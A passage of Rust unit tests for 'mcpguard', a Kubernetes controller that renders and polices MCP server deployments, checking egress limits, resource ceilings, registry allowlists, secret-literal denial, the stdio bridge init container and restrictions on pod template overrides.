        json!([default_dns_egress(), internet_egress()])
    );
    let quiet = egress_policy("    defaultEgress: dns-only\n");
    assert_eq!(
        egress_of(&quiet, json!({"image": "ghcr.io/acme/mcp:1.0"})),
        json!([default_dns_egress()])
    );
}

#[test]
fn none_keeps_only_the_servers_own_peers_and_dns_only_adds_the_gateway() {
    let policy = egress_policy(
        "    gatewayPeers:
      - namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: egress}}
    allowedExtraPeers:
      - ipBlock: {cidr: 10.20.0.0/16}
",
    );
    let gateway = json!({"to": [{
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "egress"}},
    }]});
    let own = json!({"to": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]});
    let with = |profile: &str| {
        json!({
            "image": "ghcr.io/acme/mcp:1.0",
            "network": {"egress": profile, "egressTo": [{"ipBlock": {"cidr": "10.20.0.0/16"}}]},
        })
    };
    assert_eq!(egress_of(&policy, with("none")), json!([own]));
    assert_eq!(
        egress_of(&policy, with("dns-only")),
        json!([default_dns_egress(), gateway, own])
    );
    assert_eq!(
        egress_of(&policy, with("public")),
        json!([default_dns_egress(), gateway, internet_egress(), own])
    );
}

#[test]
fn more_egress_than_the_policy_allows_is_refused() {
    let capped = egress_policy("    defaultEgress: none\n    maxEgress: dns-only\n");
    assert_eq!(
        render_error(
            &capped,
            json!({"image": "ghcr.io/acme/mcp:1.0", "network": {"egress": "public"}})
        ),
        RenderError::EgressNotAllowed(
            "network.egress is public, more than the policy's spec.network.maxEgress (dns-only)"
                .into()
        )
    );
    // At or under the cap renders.
    assert_eq!(
        egress_of(
            &capped,
            json!({"image": "ghcr.io/acme/mcp:1.0", "network": {"egress": "dns-only"}})
        ),
        json!([default_dns_egress()])
    );
    assert_eq!(
        egress_of(&capped, json!({"image": "ghcr.io/acme/mcp:1.0"})),
        json!([])
    );
}

#[test]
fn a_package_server_needs_a_way_to_its_registry() {
    let npx = |profile: &str| {
        json!({
            "package": {"runtime": "npx", "name": "@modelcontextprotocol/server-everything"},
            "network": {"egress": profile},
        })
    };
    assert_eq!(
        render_error(&default_policy(), npx("none")),
        RenderError::EgressNotAllowed(
            "network.egress is none, but a npx package server fetches its package from a \
             registry at start, which needs at least DNS: use dns-only with a registry mirror or \
             proxy (network.egressTo, or the policy's spec.network.gatewayPeers), or an image \
             with the package built in"
                .into()
        )
    );
    assert_eq!(
        render_error(&default_policy(), npx("dns-only")),
        RenderError::EgressNotAllowed(
            "network.egress is dns-only, but a npx package server fetches its package from a \
             registry at start, and dns-only reaches no registry here: name a registry mirror \
             or proxy in network.egressTo (the policy must list it in \
             spec.network.allowedExtraPeers) or in the policy's spec.network.gatewayPeers"
                .into()
        )
    );
    // The policy's default counts the same, and says where it came from.
    let quiet = egress_policy("    defaultEgress: dns-only\n");
    let uvx = json!({"package": {"runtime": "uvx", "name": "mcp-server-time"}});
    match render_error(&quiet, uvx) {
        RenderError::EgressNotAllowed(message) => assert!(
            message.starts_with(
                "the policy's spec.network.defaultEgress is dns-only, but a uvx package server"
            ),
            "{message}"
        ),
        other => panic!("{other:?}"),
    }
    // With a proxy among the gateway peers, dns-only works; public always does.
    let proxied = egress_policy(
        "    gatewayPeers:
      - namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: egress}}
",
    );
    assert_eq!(
        egress_of(&proxied, npx("dns-only"))
            .as_array()
            .map(Vec::len),
        Some(2)
    );
    assert_eq!(
        egress_of(&default_policy(), npx("public")),
        json!([default_dns_egress(), internet_egress()])
    );
}

#[test]
fn network_disabled_renders_no_network_policy() {
    let off = policy(&format!("{MUTATE}  network: {{enabled: false}}\n"));
    let r = rendered(&off, &server(json!({"image": "ghcr.io/acme/mcp:1.0"})));
    assert_eq!(r.network_policy, None);
    let on = render_default(json!({"image": "ghcr.io/acme/mcp:1.0"}));
    assert!(on.network_policy.is_some());
}

// ---------------------------------------------------------------------------------------
// Denied templates

fn ceiling_policy(mode: &str) -> Policy {
    policy(&format!(
        "{MUTATE}  validate:\n    maxResources: {{cpu: \"1\", memory: 1Gi}}\n  mode: {mode}\n"
    ))
}

const CEILING_DENIAL: &str = r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": resources above policy ceiling (container "mcp" requests memory=2Gi above the ceiling 1Gi, container "mcp" limits memory=2Gi above the ceiling 1Gi)"#;

fn too_big() -> Value {
    json!({"image": "ghcr.io/acme/mcp:1.0", "resources": {"limits": {"memory": "2Gi"}}})
}

#[test]
fn resources_above_the_policy_ceiling_are_denied() {
    assert_eq!(
        render_error(&ceiling_policy("enforce"), too_big()),
        RenderError::Denied(CEILING_DENIAL.into())
    );
    let within = rendered(
        &ceiling_policy("enforce"),
        &server(
            json!({"image": "ghcr.io/acme/mcp:1.0", "resources": {"limits": {"memory": "1Gi", "cpu": "1"}}}),
        ),
    );
    assert_eq!(within.warnings, Vec::<String>::new());
}

#[test]
fn in_warn_mode_the_same_server_renders_with_the_violation_as_a_warning() {
    let r = rendered(&ceiling_policy("warn"), &server(too_big()));
    let summary = CEILING_DENIAL
        .strip_prefix(r#"the pods of MCPServer "x" would be rejected: "#)
        .expect("prefix");
    assert_eq!(r.warnings, vec![summary.to_owned()]);
    assert_eq!(
        container(&r)["resources"],
        // Like a LimitRange default, the missing cpu limit becomes the ceiling; API defaulting
        // then copies limits into the absent requests.
        json!({"limits": {"cpu": "1", "memory": "2Gi"}, "requests": {"cpu": "1", "memory": "2Gi"}})
    );
    assert!(r.network_policy.is_some());
    // namespaceModes does the same for one namespace.
    let per_namespace = policy(&format!(
        "{MUTATE}  validate:\n    maxResources: {{memory: 1Gi}}\n  namespaceModes: {{mcp: warn}}\n"
    ));
    let r = rendered(&per_namespace, &server(too_big()));
    assert_eq!(
        r.warnings,
        vec![
            r#"violates mcpguard policy "test": resources above policy ceiling (container "mcp" requests memory=2Gi above the ceiling 1Gi, container "mcp" limits memory=2Gi above the ceiling 1Gi)"#.to_owned()
        ]
    );
}

fn registry_policy() -> Policy {
    policy(&format!(
        "{MUTATE}  validate:\n    allowedRegistries: [ghcr.io/acme]\n"
    ))
}

#[test]
fn an_image_from_a_registry_the_policy_does_not_allow_is_denied() {
    assert_eq!(
        render_error(
            &registry_policy(),
            json!({"image": "docker.io/evil/mcp:1.0"})
        ),
        RenderError::Denied(
            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": image registry not allowed (container "mcp" must use images from ghcr.io/acme; got "docker.io/evil/mcp:1.0")"#.into()
        )
    );
    // The package runtime image is judged like any other.
    assert_eq!(
        render_error(
            &registry_policy(),
            json!({"package": {"runtime": "npx", "name": "pkg"}})
        ),
        RenderError::Denied(
            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "test": image registry not allowed (container "mcp" must use images from ghcr.io/acme; got "docker.io/library/node:22-bookworm-slim")"#.into()
        )
    );
    let allowed = rendered(
        &registry_policy(),
        &server(json!({"image": "ghcr.io/acme/mcp:1.0"})),
    );
    assert_eq!(container(&allowed)["image"], "ghcr.io/acme/mcp:1.0");
}

#[test]
fn a_secret_literal_in_env_is_denied_and_a_secret_env_is_not() {
    assert_eq!(
        render_error(
            &default_policy(),
            json!({"image": "ghcr.io/acme/mcp:1.0", "env": [{"name": "GITHUB_TOKEN", "value": "ghp_x"}]})
        ),
        RenderError::Denied(
            r#"the pods of MCPServer "x" would be rejected: violates mcpguard policy "mcp-restricted": secret literal in env (container "mcp" sets GITHUB_TOKEN (the name marks a credential) as literal value; use valueFrom.secretKeyRef)"#.into()
        )
    );
    render_default(json!({
        "image": "ghcr.io/acme/mcp:1.0",
        "secretEnv": [{"name": "GITHUB_TOKEN", "secretKeyRef": {"name": "github", "key": "token"}}],
    }));
}

// ---- config, probes, several replicas, autoscaling (#18) ------------------------------

fn config_map(name: &str, resource_version: &str) -> SecretVersion {
    SecretVersion {
        name: name.into(),
        uid: format!("uid-{name}"),
        resource_version: resource_version.into(),
        keys: vec!["config.yaml".into()],
    }
}

#[test]
fn config_maps_are_mounted_read_only_and_a_change_rolls_the_pods() {
    let server = server(json!({"image": "ghcr.io/acme/server:1.0",
        "config": [{"configMapRef": {"name": "settings"}}]}));
    let rendered = render_with_config(
        &default_policy(),
        &server,
        &[],
        &[config_map("settings", "7")],
    )
    .expect("renders");
    let template = &rendered.deployment["spec"]["template"];
    assert_eq!(
        template["spec"]["volumes"],
        json!([{"name": "config-0", "configMap": {"name": "settings"}}])
    );
    assert_eq!(
        template["spec"]["containers"][0]["volumeMounts"],
        json!([{"name": "config-0", "mountPath": "/config/settings", "readOnly": true}])
    );
    let hash = |version: &str| {
        render_with_config(
            &default_policy(),
            &server,
            &[],
            &[config_map("settings", version)],
        )
        .expect("renders")
        .deployment["spec"]["template"]["metadata"]["annotations"][CONFIG_HASH_ANNOTATION]
            .clone()
    };
    assert_eq!(
        hash("7"),
        template["metadata"]["annotations"][CONFIG_HASH_ANNOTATION]
    );
    assert_ne!(hash("7"), hash("8"));
    assert_eq!(
        missing_config_maps(&server, &[]),
        ["ConfigMap \"settings\" not found"]
    );
    assert!(missing_config_maps(&server, &[config_map("settings", "7")]).is_empty());

    let without = render_with(
        &default_policy(),
        &super::tests::server(json!({"image": "ghcr.io/acme/server:1.0"})),
        &[],
    )
    .expect("renders");
    let annotations = &without.deployment["spec"]["template"]["metadata"]["annotations"];
    assert_eq!(annotations.get(CONFIG_HASH_ANNOTATION), None);
}

#[test]
fn http_probes_replace_the_tcp_readiness_probe_and_add_liveness() {
    let image = json!({"image": "ghcr.io/acme/server:1.0"});
    let tcp = render_with(&default_policy(), &server(image.clone()), &[]).expect("renders");
    let container = &tcp.deployment["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(
        container["readinessProbe"],
        json!({"tcpSocket": {"port": "http"}, "periodSeconds": 5, "failureThreshold": 3})
    );
    assert_eq!(container.get("livenessProbe"), None);

    let mut spec = image;
    spec["probes"] = json!({"readiness": {"path": "/ready"},
        "liveness": {"path": "/health", "periodSeconds": 20, "failureThreshold": 5}});
    let http = render_with(&default_policy(), &server(spec.clone()), &[]).expect("renders");
    let container = &http.deployment["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(
        container["readinessProbe"],
        json!({"httpGet": {"path": "/ready", "port": "http"}})
    );
    assert_eq!(
        container["livenessProbe"],
        json!({"httpGet": {"path": "/health", "port": "http"}, "periodSeconds": 20, "failureThreshold": 5})
    );

    spec["probes"]["readiness"]["path"] = json!("ready now");
    assert_eq!(
        render_with(&default_policy(), &server(spec.clone()), &[]).unwrap_err(),
        RenderError::Invalid("probes.readiness.path must be an absolute URL path of at most 1024 characters without spaces (such as /health)".into())
    );
    spec["probes"]["readiness"]["path"] = json!("/ready");
    spec["probes"]["liveness"]["periodSeconds"] = json!(0);
    assert_eq!(
        render_with(&default_policy(), &server(spec), &[]).unwrap_err(),
        RenderError::Invalid("probes.liveness.periodSeconds 0 is not between 1 and 3600".into())
    );
}

#[test]
fn several_replicas_get_a_disruption_budget_spread_and_client_affinity() {
    let one = render_with(
        &default_policy(),
        &server(json!({"image": "ghcr.io/acme/server:1.0"})),
        &[],
    )
    .expect("renders");
    assert_eq!(one.pod_disruption_budget, None);
    assert_eq!(one.service["spec"].get("sessionAffinity"), None);
    assert_eq!(
        one.deployment["spec"]["template"]["spec"].get("topologySpreadConstraints"),
        None
    );
    assert_eq!(one.deployment["spec"]["replicas"], 1);

    let three = render_with(
        &default_policy(),
        &server(json!({"image": "ghcr.io/acme/server:1.0", "replicas": 3})),
        &[],
    )
    .expect("renders");
    let selector =
        json!({"app.kubernetes.io/name": "x", "app.kubernetes.io/managed-by": "mcpguard"});
    assert_eq!(
        three.pod_disruption_budget,
        Some(json!({
            "apiVersion": "policy/v1",
            "kind": "PodDisruptionBudget",
            "metadata": three.service["metadata"].clone(),
            "spec": {"maxUnavailable": 1, "selector": {"matchLabels": selector.clone()}},
        }))
    );
    assert_eq!(three.service["spec"]["sessionAffinity"], "ClientIP");
    assert_eq!(
        three.deployment["spec"]["template"]["spec"]["topologySpreadConstraints"],
        json!([{"maxSkew": 1, "topologyKey": "kubernetes.io/hostname",
                "whenUnsatisfiable": "ScheduleAnyway", "labelSelector": {"matchLabels": selector}}])
    );
    assert_eq!(three.deployment["spec"]["replicas"], 3);
    assert_eq!(
        render_with(
            &default_policy(),
            &server(json!({"image": "ghcr.io/acme/server:1.0", "replicas": 1001})),
            &[]
        )
        .unwrap_err(),
        RenderError::Invalid("replicas 1001 is not between 0 and 1000".into())
    );
}

#[test]
fn autoscaling_renders_an_hpa_and_leaves_the_replicas_to_it() {
    let server = server(json!({"image": "ghcr.io/acme/server:1.0",
        "autoscaling": {"minReplicas": 2, "maxReplicas": 5, "targetCPUUtilizationPercentage": 70}}));
    let rendered = render_with(&default_policy(), &server, &[]).expect("renders");
    assert_eq!(
        rendered.autoscaler,
        Some(json!({
            "apiVersion": "autoscaling/v2",
            "kind": "HorizontalPodAutoscaler",
            "metadata": rendered.service["metadata"].clone(),
            "spec": {
                "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"},
                "minReplicas": 2,
                "maxReplicas": 5,
                "metrics": [{"type": "Resource", "resource": {"name": "cpu",
                    "target": {"type": "Utilization", "averageUtilization": 70}}}],
            },
        }))
    );
    assert_eq!(rendered.deployment["spec"].get("replicas"), None);
    assert!(rendered.pod_disruption_budget.is_some(), "up to 5 replicas");

    let bad = super::tests::server(json!({"image": "ghcr.io/acme/server:1.0",
        "autoscaling": {"minReplicas": 6, "maxReplicas": 5}}));
    assert_eq!(
        render_with(&default_policy(), &bad, &[]).unwrap_err(),
        RenderError::Invalid(
            "autoscaling needs 1 <= minReplicas (6) <= maxReplicas (5) <= 1000".into()
        )
    );
}

#[test]
fn the_scale_selector_names_the_pods() {
    assert_eq!(
        selector_string(&server(json!({"image": "i"}))),
        "app.kubernetes.io/managed-by=mcpguard,app.kubernetes.io/name=x"
    );
}

// ---- mcpguard's own bridge in the pod (#18) -------------------------------------------

const BRIDGE_IMAGE: &str = "ghcr.io/mcpguard/mcpguard@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

fn bridge_policy(extra: &str) -> Policy {
    policy(&format!(
        "{}    bridgeImage: {BRIDGE_IMAGE}\n{extra}",
        MUTATE
    ))
}

#[test]
fn a_stdio_image_runs_behind_the_bridge_copied_in_by_an_init_container() {
    let server = server(
        json!({"image": "docker.io/mcp/fetch:1.2", "transport": "stdio",
        "command": ["mcp-server-fetch"], "args": ["--ignore-robots-txt"], "port": 8080}),
    );
    let rendered = render_with(&bridge_policy(""), &server, &[]).expect("renders");
    let pod = &rendered.deployment["spec"]["template"]["spec"];
    let container = &pod["containers"][0];
    assert_eq!(
        container["command"],
        json!([
            "/mcpguard-bridge/mcpguard",
            "bridge",
            "--listen",
            "0.0.0.0:8080",
            "--",
            "mcp-server-fetch"
        ])
    );
    assert_eq!(container["args"], json!(["--ignore-robots-txt"]));
    assert_eq!(
        container["volumeMounts"],
        json!([{"name": "mcpguard-bridge", "mountPath": "/mcpguard-bridge", "readOnly": true}])
    );
    let init = &pod["initContainers"][0];
    assert_eq!(init["name"], "mcpguard-bridge");
    assert_eq!(init["image"], BRIDGE_IMAGE);
    assert_eq!(
        init["command"],
        json!([
            "/mcpguard",
            "copy-self",
            "--force",
            "/mcpguard-bridge/mcpguard"
        ])
    );
    assert_eq!(
        init["volumeMounts"],
        json!([{"name": "mcpguard-bridge", "mountPath": "/mcpguard-bridge"}])
    );
    // The init container is hardened like every container of the pod.
    assert_eq!(init["securityContext"]["allowPrivilegeEscalation"], false);
    assert_eq!(
        init["securityContext"]["capabilities"],
        json!({"drop": ["ALL"]})
    );
    assert_eq!(
        pod["volumes"],
        json!([{"name": "mcpguard-bridge", "emptyDir": {}}])
    );
}

#[test]
fn a_stdio_image_needs_the_bridge_image_and_a_command() {
    let stdio = json!({"image": "docker.io/mcp/fetch:1.2", "transport": "stdio"});
    assert_eq!(
        render_with(&bridge_policy(""), &server(stdio), &[]).unwrap_err(),
        RenderError::Invalid("an image with transport stdio needs command: the bridge starts it, so the image's entrypoint is not used".into())
    );
}

#[test]
fn with_the_bridge_image_a_package_fetches_no_bridge_at_start() {
    let npx = server(
        json!({"package": {"runtime": "npx", "name": "@modelcontextprotocol/server-everything", "version": "2026.8.31"},
        "args": ["stdio"]}),
    );
    let rendered = render_with(&bridge_policy(""), &npx, &[]).expect("renders");
    let container = &rendered.deployment["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(
        container["command"],
        json!([
            "/mcpguard-bridge/mcpguard",
            "bridge",
            "--listen",
            "0.0.0.0:8080",
            "--",
            "npx",
            "-y",
            "@modelcontextprotocol/server-everything@2026.8.31"
        ])
    );
    assert_eq!(container["args"], json!(["stdio"]));
    let uvx = server(
        json!({"package": {"runtime": "uvx", "name": "mcp-server-fetch", "version": "2025.4.7"}}),
    );
    let rendered = render_with(&bridge_policy(""), &uvx, &[]).expect("renders");
    let container = &rendered.deployment["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(
        container["command"],
        json!([
            "/mcpguard-bridge/mcpguard",
            "bridge",
            "--listen",
            "0.0.0.0:8080",
            "--",
            "uvx",
            "mcp-server-fetch==2025.4.7"
        ])
    );
    assert_eq!(container.get("args"), None);
    // HTTP+SSE stays on the pinned supergateway, and without the bridge image so does all.
    let sse = server(json!({"package": {"runtime": "npx", "name": "x"}, "transport": "sse"}));
    let rendered = render_with(&bridge_policy(""), &sse, &[]).expect("renders");
    let pod = &rendered.deployment["spec"]["template"]["spec"];
    assert_eq!(pod["containers"][0]["args"][1], SUPERGATEWAY);
    assert_eq!(pod.get("initContainers"), None);
    let plain = render_with(&default_policy(), &npx, &[]).expect("renders");
    assert_eq!(
        plain.deployment["spec"]["template"]["spec"]["containers"][0]["args"][1],
        SUPERGATEWAY
    );
}

#[test]
fn the_bridge_image_must_pass_the_policys_registries() {
    let policy = bridge_policy("  validate:\n    allowedRegistries: [docker.io/mcp]\n");
    let server = server(
        json!({"image": "docker.io/mcp/fetch:1.2", "transport": "stdio",
        "command": ["mcp-server-fetch"]}),
    );
    match render_with(&policy, &server, &[]).unwrap_err() {
        RenderError::Denied(message) => assert!(
            message.contains("ghcr.io/mcpguard/mcpguard@sha256:"),
            "{message}"
        ),
        other => panic!("expected a denial, got {other:?}"),
    }
}

// ---- spec.podTemplateSpec (#18) ------------------------------------------------------

#[test]
fn a_pod_template_spec_places_and_dresses_the_pod() {
    let server = server(json!({"image": "ghcr.io/acme/mcp:1.0",
    "podTemplateSpec": {
        "metadata": {"labels": {"team": "search"}, "annotations": {"example.com/owner": "search"}},
        "spec": {
            "nodeSelector": {"kubernetes.io/arch": "arm64"},
            "tolerations": [{"key": "mcp", "operator": "Exists", "effect": "NoSchedule"}],
            "priorityClassName": "mcp-high",
            "serviceAccountName": "k8s-mcp-reader",
            "containers": [{"name": "mcp",
                "resources": {"limits": {"memory": "512Mi"}},
                "securityContext": {"readOnlyRootFilesystem": true}}],
        },
    }}));
    let rendered = render_with(&default_policy(), &server, &[]).expect("renders");
    let template = &rendered.deployment["spec"]["template"];
    assert_eq!(template["metadata"]["labels"]["team"], "search");
    assert_eq!(
        template["metadata"]["labels"]["app.kubernetes.io/name"],
        "x"
    );
    assert_eq!(
        template["metadata"]["annotations"]["example.com/owner"],
        "search"
    );
    let pod = &template["spec"];
    assert_eq!(pod["nodeSelector"], json!({"kubernetes.io/arch": "arm64"}));
    assert_eq!(pod["priorityClassName"], "mcp-high");
    assert_eq!(pod["serviceAccountName"], "k8s-mcp-reader");
    let container = &pod["containers"][0];
    assert_eq!(container["resources"]["limits"], json!({"memory": "512Mi"}));
    // The API server copies a limit to a missing request, so the policy's default request
    // does not apply; what the policy fills in the security context is merged, not lost.
    assert_eq!(
        container["resources"]["requests"],
        json!({"memory": "512Mi"})
    );
    assert_eq!(container["securityContext"]["readOnlyRootFilesystem"], true);
    assert_eq!(
        container["securityContext"]["allowPrivilegeEscalation"],
        false
    );
    assert_eq!(container["image"], "ghcr.io/acme/mcp:1.0");
}

#[test]
fn a_pod_template_spec_cannot_relax_the_policy() {
    let server = server(json!({"image": "ghcr.io/acme/mcp:1.0",
        "podTemplateSpec": {"spec": {"containers": [{"name": "mcp",
            "securityContext": {"privileged": true}}]}}}));
    match render_with(&default_policy(), &server, &[]).unwrap_err() {
        RenderError::Denied(message) => assert!(message.contains("privileged"), "{message}"),
        other => panic!("expected a denial, got {other:?}"),
    }
}

#[test]
fn what_the_controller_keeps_is_refused_by_name() {
    let refused = |overrides: Value| {
        let server = server(json!({"image": "ghcr.io/acme/mcp:1.0", "podTemplateSpec": overrides}));
        match render_with(&default_policy(), &server, &[]) {
            Err(RenderError::Invalid(message)) => message,
            other => panic!("expected an invalid spec, got {other:?}"),
        }
    };
    assert_eq!(
        refused(
            json!({"spec": {"volumes": [{"name": "v", "secret": {"secretName": "db-admin"}}]}})
        ),
        "podTemplateSpec.spec.volumes cannot be set: the controller keeps it (an override may set spec.nodeSelector, spec.tolerations, spec.affinity, spec.priorityClassName, spec.serviceAccountName, spec.topologySpreadConstraints, spec.securityContext, spec.terminationGracePeriodSeconds, spec.runtimeClassName, spec.containers, and the mcp container's securityContext and resources)"
    );
    assert_eq!(
        refused(json!({"spec": {"containers": [{"name": "mcp",
            "env": [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "db-admin", "key": "k"}}}]}]}})),
        "podTemplateSpec.spec.containers[0].env cannot be set: the controller keeps it (only securityContext and resources can be adjusted)"
    );
    assert_eq!(
        refused(json!({"spec": {"containers": [{"name": "sidecar", "image": "busybox"}]}})),
        "podTemplateSpec.spec.containers[0] cannot be set: only the server's container, \"mcp\", can be adjusted"
    );
    assert_eq!(
        refused(json!({"metadata": {"labels": {"app.kubernetes.io/name": "other"}}})),
        "podTemplateSpec.metadata.labels.app.kubernetes.io/name cannot be set: the controller keeps it"
    );
    assert_eq!(
        refused(json!({"spec": {"serviceAccountName": "Not A Name"}})),
        "podTemplateSpec.spec.serviceAccountName cannot be set: it must be a ServiceAccount's name (a DNS subdomain)"
    );
    assert_eq!(
        refused(json!({"spec": {"nodeSelectr": {"kubernetes.io/arch": "arm64"}}})),
        "podTemplateSpec.spec.nodeSelectr: unknown field"
    );
}

// ---- a package cache for air-gapped clusters (#18) --------------------------------------

#[test]
fn a_package_cache_claim_is_mounted_and_used_as_the_package_managers_cache() {
    let npx = server(
        json!({"package": {"runtime": "npx", "name": "@modelcontextprotocol/server-everything",
        "version": "2026.8.31", "cache": {"persistentVolumeClaim": {"claimName": "npm-cache"}}}}),
    );
    let rendered = render_with(&default_policy(), &npx, &[]).expect("renders");
    let pod = &rendered.deployment["spec"]["template"]["spec"];
    assert!(
        pod["volumes"].as_array().expect("volumes").contains(
            &json!({"name": "package-cache", "persistentVolumeClaim": {"claimName": "npm-cache"}})
        ),
        "{pod}"
    );
    let container = &pod["containers"][0];
    assert!(
        container["volumeMounts"]
            .as_array()
            .expect("mounts")
            .contains(&json!({"name": "package-cache", "mountPath": "/cache"}))
    );
    let env = container["env"].as_array().expect("env");
    let value = |name: &str| {
        env.iter()
            .filter(|e| e["name"] == name)
            .map(|e| e["value"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        value("NPM_CONFIG_CACHE"),
        [json!("/cache/npm")],
        "one value, the cache's"
    );
    assert_eq!(value("NPM_CONFIG_PREFER_OFFLINE"), [json!("true")]);
    assert_eq!(value("NPM_CONFIG_OFFLINE"), Vec::<Value>::new());
}

#[test]
fn an_offline_cache_needs_no_registry_so_no_egress() {
    let spec = |offline: bool| {
        json!({"package": {"runtime": "uvx", "name": "mcp-server-fetch", "version": "2025.4.7",
            "cache": {"persistentVolumeClaim": {"claimName": "uv-cache"}, "offline": offline}},
            "network": {"egress": "none"}})
    };
    let rendered = render_with(&default_policy(), &server(spec(true)), &[]).expect("renders");
    let env = rendered.deployment["spec"]["template"]["spec"]["containers"][0]["env"].clone();
    assert!(
        env.as_array()
            .expect("env")
            .contains(&json!({"name": "UV_OFFLINE", "value": "1"}))
    );
    assert!(
        env.as_array()
            .expect("env")
            .contains(&json!({"name": "UV_CACHE_DIR", "value": "/cache/uv"}))
    );
    match render_with(&default_policy(), &server(spec(false)), &[]).unwrap_err() {
        RenderError::EgressNotAllowed(message) => assert!(message.contains("is none"), "{message}"),
        other => panic!("expected the egress refusal, got {other:?}"),
    }
}
